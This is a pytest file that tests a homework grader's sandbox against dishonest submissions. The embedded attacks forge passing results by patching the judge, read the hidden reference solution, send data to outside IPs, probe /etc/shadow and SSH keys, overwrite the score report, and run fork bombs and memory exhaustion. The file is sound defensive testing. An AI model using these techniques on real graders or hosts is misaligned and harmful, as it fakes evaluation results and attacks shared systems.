"""Dishonest submissions against the judge/worker split and the sandbox (issue #12).

Each kind of attack is a small submission: the toy homework's release stub (every function
raises ``NotImplementedError``) with an attack appended. Every one must score 0 and leave no
trace: no file outside the grading's temporary folders, no process left, the checkout and the
grader folder unchanged, nothing received over the network, the report unchanged seconds after
the grader exits. The toy judge has no syntax-tree rules on purpose: here the sandbox alone
must hold (the rules are tested in ``test_grading_framework.py``).

These tests need the namespace sandbox (root, bubblewrap, cgroups: ``make install-sandbox``);
elsewhere they are skipped, except the check that grading refuses to run without it.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from grading_toy import REPO, TOY_SOLUTION, grade, make_homework, submit

sys.path.insert(0, str(REPO / "homeworks"))
from grading.client import Worker, WorkerError, prepare_worker_lib  # noqa: E402
from grading.homework import load_homework  # noqa: E402
from grading.runner import copy_submission  # noqa: E402
from grading.sandbox import SANDBOX_UID, Isolation, Limits, detect_isolation  # noqa: E402

sys.path.remove(str(REPO / "homeworks"))

ISOLATION = detect_isolation()
needs_sandbox = pytest.mark.skipif(ISOLATION.level != "namespaces",
                                   reason=f"no namespace sandbox here: {ISOLATION.reason}")

#: The judge of these tests: every test asks the worker (none reads the source only).
GRADER = '''\
import pytest


@pytest.mark.points(0.25)
def test_add(worker):
    assert worker.call("call", function="add", args=[2, 3]) == 5, "add(2, 3) должно быть 5"


@pytest.mark.points(0.25)
def test_mul(worker):
    assert worker.call("call", function="mul", args=[2, 3]) == 6, "mul(2, 3) должно быть 6"


@pytest.mark.points(0.25)
@pytest.mark.parametrize("x", [1, -1])
def test_param(worker, x):
    assert worker.call("call", function="add", args=[x, 10]) == x + 10, "неверная сумма"
'''

#: The release stub the attacks start from.
STUB = '''\
def add(a, b):
    raise NotImplementedError


def mul(a, b):
    raise NotImplementedError
'''


def _cmdlines() -> dict[int, str]:
    found = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found[int(entry.name)] = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                pass
    return found


def _processes_with(token: str) -> list[int]:
    return [pid for pid, line in _cmdlines().items() if token in line and _alive(pid)]


def _alive(pid: int) -> bool:
    """Whether ``pid`` runs (a zombie waiting to be reaped by init counts as dead)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
    except OSError:
        return False
    return "\nState:\tZ" not in status


def _sandbox_processes() -> set[int]:
    """Live processes of the sandbox user (any grading running on this machine)."""
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if entry.stat().st_uid == SANDBOX_UID and _alive(int(entry.name)):
                    found.add(int(entry.name))
            except OSError:
                pass
    return found


def _checkout_state() -> str:
    return subprocess.run(["git", "-C", str(REPO), "status", "--porcelain", "--ignored=no"],
                          capture_output=True, text=True, check=True).stdout


class Listener:
    """A TCP server on the host's loopback that records every connection it gets."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.server.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.server.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def _attack(tmp_path: Path, name: str, attack: str, stub: str = STUB, extra: dict[str, str] | None = None) -> Path:
    return submit(tmp_path, name, stub + "\n\n# --- attack\n" + textwrap.dedent(attack), extra=extra)


def _grade_dishonest(tmp_path: Path, submission: Path, root: Path, *, limit_s: float = 120) -> dict[str, Any]:
    """Grade in the sandbox; check score 0, a bounded time, no leftovers; return the results."""
    checkout = _checkout_state()
    grader_files = sorted(p.name for p in (root / "toy" / "grader").iterdir())
    out = tmp_path / f"{submission.name}.json"
    begin = time.monotonic()
    process, results = grade(root, submission, "toy", out, "--json", str(out), timeout=limit_s + 60)
    elapsed = time.monotonic() - begin
    assert process.returncode == 0, process.stderr
    assert results is not None and results["isolation"] == "namespaces"
    assert results["score"] == 0.0, process.stdout
    assert elapsed < limit_s, f"grading took {elapsed:.0f} s"
    assert not _processes_with(submission.name + "-marker")
    report = out.read_bytes()
    time.sleep(3)
    assert out.read_bytes() == report  # nothing rewrites the report after the grader exits
    assert not _processes_with(submission.name + "-marker")
    assert _checkout_state() == checkout
    assert sorted(p.name for p in (root / "toy" / "grader").iterdir()) == grader_files
    assert not list(tmp_path.glob("pwned*"))
    assert not list(Path(tempfile.gettempdir()).glob(f"pwned-{submission.name}*"))
    return results


@contextmanager
def _worker(homework_dir: Path, submission: Path, timeout: float = 10) -> Iterator[Worker]:
    """A sandboxed worker on ``submission`` (the toy homework's ops), as the judge runs it."""
    box = Path(tempfile.mkdtemp())
    box.chmod(0o755)
    try:
        copy_submission(load_homework(homework_dir), submission, box / "submission")
        (box / "stage").mkdir(mode=0o755)
        worker = Worker(module="toy", ops="ops_selftest", copy=box / "submission",
                        worker_lib=prepare_worker_lib(box / "lib"), stage=box / "stage",
                        isolation=Isolation("namespaces"), limits=Limits(memory_bytes=2**30), timeout=timeout)
        with worker:
            yield worker
    finally:
        subprocess.run(["chmod", "-R", "u+w", str(box)], check=False)
        subprocess.run(["rm", "-rf", str(box)], check=False)


@pytest.fixture
def toy_root(tmp_path: Path) -> Path:
    root = tmp_path / "hws"
    make_homework(root, grader=GRADER)
    return root


# --- kind 1: student code shares a process with the judge ---------------------------------------


@needs_sandbox
def test_kind1_patching_the_judge_does_nothing(tmp_path: Path, toy_root: Path) -> None:
    sub = _attack(tmp_path, "shared", '''
        import builtins, gc, json, os, sys

        for name in list(sys.modules):
            if name.startswith(("grading", "_pytest", "pytest")):
                module = sys.modules[name]
                for attr in ("emit", "pytest_runtest_logreport", "reason_of"):
                    if hasattr(module, attr):
                        setattr(module, attr, lambda *a, **k: None)
        for obj in gc.get_objects():
            if type(obj).__name__ in ("TestReport", "Worker"):
                obj.outcome = "passed"
        builtins.max = lambda *a, **k: 0
        for key, value in os.environ.items():  # a result channel named in the environment
            if key.startswith("HW_") and os.path.isfile(value):
                with open(value, "a") as f:
                    f.write(json.dumps({"event": "result", "nodeid": "x", "passed": True}) + "\\n")

        ''')
    _grade_dishonest(tmp_path, sub, toy_root)


# --- kind 2: reading the reference, the hidden tests, the network -------------------------------


@needs_sandbox
def test_kind2_reference_and_network_are_out_of_reach(tmp_path: Path, toy_root: Path, listener: Listener) -> None:
    reference = toy_root / "toy" / "toy.py"
    sub = _attack(tmp_path, "steal", f'''
        import os, socket
        for path in ({str(reference)!r}, {str(REPO / "homeworks" / "activations" / "activations.py")!r}):
            try:
                exec(compile(open(path).read(), path, "exec"), globals())
            except OSError:
                pass
        for host in ("127.0.0.1", "10.0.0.1", "1.1.1.1"):
            try:
                socket.create_connection((host, {listener.port}), timeout=1).sendall(b"reference")
            except OSError:
                pass
        ''')
    _grade_dishonest(tmp_path, sub, toy_root)
    assert listener.connections == 0


@needs_sandbox
def test_sandbox_visibility(tmp_path: Path) -> None:
    """Inside: uid nobody, no host process, no repository, no instructor folder, read-only but /tmp."""
    root = tmp_path / "hws"
    hw = make_homework(root)
    probe = submit(tmp_path, "probe", f'''
        import os, socket

        def add(a, b):
            seen = {{"uid": os.getuid(), "gid": os.getgid(), "pids": len([p for p in os.listdir("/proc") if p.isdigit()]),
                    "env": sorted(os.environ), "cwd": os.getcwd(), "files": sorted(os.listdir("."))}}
            seen["repo"] = sorted(os.listdir({str(REPO)!r})) if os.path.isdir({str(REPO)!r}) else []
            for path in ({str(hw / "toy.py")!r}, {str(hw / "grader")!r}, {str(REPO / "README.md")!r}, "/work/shared",
                         {str(REPO / "homeworks" / "grading")!r}, "/etc/shadow", "/root/.ssh", "/home"):
                seen[path] = os.path.exists(path)
            for path in ("/x", "/submission/x", "/grader/x", "/usr/x", {str(tmp_path / "pwned")!r}, "/tmp/x"):
                try:
                    open(path, "w").close()
                    seen["w" + path] = True
                except OSError:
                    seen["w" + path] = False
            try:
                socket.create_connection(("1.1.1.1", 80), timeout=2)
                seen["net"] = True
            except OSError:
                seen["net"] = False
            return seen

        def mul(a, b):
            import time
            time.sleep(1000)
        ''')
    with _worker(hw, probe) as worker:
        seen = worker.call("call", function="add", args=[1, 2])
        before = worker.sandbox_pids()
        assert before and before <= _sandbox_processes()  # the worker runs as the sandbox user
        with pytest.raises(WorkerError) as error:
            worker.call("call", function="mul", args=[1, 2], timeout=1)
        assert error.value.kind == "timeout" and str(error.value) == "превышено время ожидания ответа решения: 1 с"
        assert not (_sandbox_processes() & before)  # the timeout killed the whole sandbox
    assert seen["uid"] == seen["gid"] == SANDBOX_UID
    assert seen["pids"] <= 3  # bwrap's init and the worker: a new PID namespace
    assert seen["cwd"] == "/submission" and seen["files"] == ["toy.py"]
    assert not any(key.startswith("HW_") for key in seen["env"])
    for path in (hw / "toy.py", hw / "grader", REPO / "README.md", "/work/shared", REPO / "homeworks" / "grading",
                 "/etc/shadow", "/root/.ssh", "/home"):
        assert seen[str(path)] is False, path
    venv = Path(sys.prefix)
    allowed = {venv.relative_to(REPO).parts[0]} if venv.is_relative_to(REPO) else set()
    assert set(seen["repo"]) <= allowed  # at most the mount point of the virtual environment
    for path in ("/x", "/submission/x", "/grader/x", "/usr/x", str(tmp_path / "pwned")):
        assert seen["w" + path] is False, path
    assert seen["w/tmp/x"] is True and seen["net"] is False


# --- kind 3: persisting into the grader or the machine ------------------------------------------


@needs_sandbox
def test_kind3_nothing_persists(tmp_path: Path, toy_root: Path) -> None:
    grader = toy_root / "toy" / "grader"
    sub = _attack(tmp_path, "persist", f'''
        import os
        conftest = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport():\\n    yield\\n"
        for path in ({str(grader / "conftest.py")!r}, {str(tmp_path / "pwned-home")!r},
                     os.path.expanduser("~/pwned"), "/tmp/../pwned-persist", {str(REPO / "pwned")!r}):
            try:
                with open(path, "w") as f:
                    f.write(conftest)
            except OSError:
                pass
        ''')
    _grade_dishonest(tmp_path, sub, toy_root)
    assert not (grader / "conftest.py").exists() and not (REPO / "pwned").exists()
    honest = submit(tmp_path, "honest", TOY_SOLUTION)
    process, results = grade(toy_root, honest, "toy", tmp_path / "honest.json", "--json", str(tmp_path / "honest.json"))
    assert results is not None and results["score"] == 1.0, process.stdout + process.stderr


# --- kind 4: outliving the grading ----------------------------------------------------------------


@needs_sandbox
def test_kind4_no_process_outlives_the_grading(tmp_path: Path, toy_root: Path) -> None:
    report = tmp_path / "outlive.json"
    sub = _attack(tmp_path, "outlive", f'''
        import os, subprocess, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                subprocess.Popen(["/bin/sh", "-c", "sleep 30 # outlive-marker"], start_new_session=True)
                time.sleep(2)
                for path in ({str(report)!r}, "/tmp/pwned-outlive"):
                    try:
                        with open(path, "w") as f:
                            f.write('{{"score": 1.0}}')
                    except OSError:
                        pass
                os._exit(0)
            os._exit(0)
        ''')
    _grade_dishonest(tmp_path, sub, toy_root)


# --- kind 5: attacking the parent, the timeouts ---------------------------------------------------


@needs_sandbox
def test_kind5_signals_cannot_reach_the_judge(tmp_path: Path, toy_root: Path) -> None:
    sub = _attack(tmp_path, "signals", '''
        import os, signal
        for pid in (os.getppid(), 1, -1):
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
        ''')
    _grade_dishonest(tmp_path, sub, toy_root, limit_s=60)


@needs_sandbox
def test_kind5_blocking_the_alarm_is_useless(tmp_path: Path, toy_root: Path) -> None:
    sub = _attack(tmp_path, "alarm", '''
        import signal, time
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
        signal.signal(signal.SIGTERM, signal.SIG_IGN)

        def add(a, b):
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
            time.sleep(10**6)

        mul = add
        ''')
    results = _grade_dishonest(tmp_path, sub, toy_root, limit_s=90)
    outputs = {t["name"]: t["output"] for t in results["tests"]}
    assert outputs["test_add"] == "превышено время ожидания ответа решения: 1 с"


@needs_sandbox
def test_kind5_exiting_in_every_test_is_cheap(tmp_path: Path, toy_root: Path) -> None:
    sub = _attack(tmp_path, "exits", '''
        import posix

        def add(a, b):
            posix._exit(0)

        mul = add
        ''')
    results = _grade_dishonest(tmp_path, sub, toy_root, limit_s=60)
    assert {t["output"] for t in results["tests"]} == {"процесс решения завершился с кодом 0"}


@needs_sandbox
def test_kind5_a_stopped_worker_cannot_block_the_judge(tmp_path: Path, toy_root: Path) -> None:
    """A worker that stops itself times out even while the judge is still sending a large request."""
    sub = submit(tmp_path, "stopper", '''
        import os, signal, threading

        def add(a, b):
            threading.Timer(0.2, lambda: os.kill(os.getpid(), signal.SIGSTOP)).start()
            return a + b

        def mul(a, b):
            return len(a)
        ''')
    with _worker(toy_root / "toy", sub) as worker:
        assert worker.call("call", function="add", args=[2, 3]) == 5
        time.sleep(1)
        begin = time.monotonic()
        with pytest.raises(WorkerError) as error:
            worker.call("call", function="mul", args=["x" * 2**22, 1], timeout=2)
        assert error.value.kind == "timeout" and time.monotonic() - begin < 10


# --- kind 6: limits for the whole process tree ------------------------------------------------------


@needs_sandbox
def test_kind6_memory_and_files_are_limited_for_the_whole_tree(tmp_path: Path, toy_root: Path) -> None:
    sub = _attack(tmp_path, "limits", f'''
        import os, time

        def add(a, b):
            children = []
            for _ in range(6):
                pid = os.fork()
                if pid == 0:
                    blob = bytearray(400 * 2**20)
                    blob[::4096] = b"x" * len(blob[::4096])
                    time.sleep(2)
                    os._exit(0)
                children.append(pid)
            codes = [os.waitpid(pid, 0)[1] for pid in children]
            for i in range(4):
                for folder in ({str(tmp_path)!r}, "/tmp"):
                    try:
                        with open(os.path.join(folder, f"pwned-limits-{{i}}"), "wb") as f:
                            f.write(b"x" * 250 * 2**20)
                    except OSError:
                        pass
            return a + b if codes == [0] * 6 else -1  # all six 400 MB children at once: 2.4 GB
        ''')
    slow_root = tmp_path / "slow"
    make_homework(slow_root, grader=GRADER, config={"timeout_per_test_s": 60})
    _grade_dishonest(tmp_path, sub, slow_root, limit_s=400)


@needs_sandbox
def test_kind6_process_count_is_limited(tmp_path: Path, toy_root: Path) -> None:
    sub = _attack(tmp_path, "forkbomb", '''
        import os

        def add(a, b):
            started = 0
            try:
                for _ in range(1000):
                    if os.fork() == 0:
                        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 100 # forkbomb-marker"])
                    started += 1
            except OSError:
                pass
            return a + b if started == 1000 else -1
        ''')
    _grade_dishonest(tmp_path, sub, toy_root, limit_s=60)


# --- kind 7: shadowing ------------------------------------------------------------------------------


@needs_sandbox
def test_kind7_extra_files_are_not_imported(tmp_path: Path, toy_root: Path) -> None:
    fake = "raise SystemExit('shadowed')\n"
    sub = _attack(tmp_path, "shadow", '''
        try:
            from helper import add, mul
        except ImportError:
            pass
        ''', extra={"helper.py": TOY_SOLUTION, "conftest.py": fake, "pytest.py": fake, "ops_selftest.py": fake,
                    "json.py": fake, "grading_worker.py": fake, "sklearn.py": fake})
    _grade_dishonest(tmp_path, sub, toy_root)


# --- kind 10: memory is the real memory of the tree, not address space ---------------------------


@needs_sandbox
def test_kind10_torch_imports_under_the_memory_limit(tmp_path: Path) -> None:
    """The worker imports torch (far more address space than memory) under a 1 GiB limit."""
    root = tmp_path / "hws"
    grader = textwrap.dedent('''\
        import pytest
        import torch


        @pytest.mark.points(1.0)
        def test_record(worker):
            result = worker.call("record", function="relu", args=[torch.tensor([-1.0, 2.0])])
            assert torch.equal(result["result"], torch.tensor([0.0, 2.0])), "неверный результат"
            assert "aten.clamp_min" in result["ops"], "операции не записаны"
        ''')
    make_homework(root, grader=grader, config={"timeout_per_test_s": 30})
    sub = submit(tmp_path, "torchy", "import torch\n\n\ndef relu(x):\n    return x.clamp_min(0)\n")
    process, results = grade(root, sub, "toy", tmp_path / "torchy.json", "--json", str(tmp_path / "torchy.json"))
    assert results is not None and results["isolation"] == "namespaces"
    assert results["score"] == 1.0, process.stdout + process.stderr


# --- without the sandbox ------------------------------------------------------------------------------


def test_grading_refuses_without_sandbox_unless_allowed(tmp_path: Path) -> None:
    root = tmp_path / "hws"
    hw = make_homework(root)
    empty = tmp_path / "nobin"
    empty.mkdir()
    env = {**os.environ, "PATH": str(empty)}
    argv = [sys.executable, str(REPO / "homeworks" / "grade.py"), "--root", str(root), "toy", str(hw),
            "--json", str(tmp_path / "r.json")]
    refused = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=300)
    assert refused.returncode == 2 and not (tmp_path / "r.json").exists()
    [line] = refused.stderr.strip().splitlines()
    assert "песочница недоступна" in line and "--allow-no-isolation" in line and "missing bwrap" in line
    allowed = subprocess.run([*argv, "--allow-no-isolation"], capture_output=True, text=True, env=env, timeout=300)
    assert allowed.returncode == 0, allowed.stderr
    results = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert results["isolation"] == "none" and results["score"] == 1.0
    assert allowed.stdout.startswith("без песочницы / no sandbox: missing bwrap")


def test_unknown_isolation_value_is_an_error(tmp_path: Path) -> None:
    sys.path.insert(0, str(REPO / "homeworks"))
    try:
        from grading.runner import grade_submission
    finally:
        sys.path.remove(str(REPO / "homeworks"))
    hw = make_homework(tmp_path)
    with pytest.raises(ValueError, match="isolation must be"):
        grade_submission(load_homework(hw), hw, isolation="maybe")
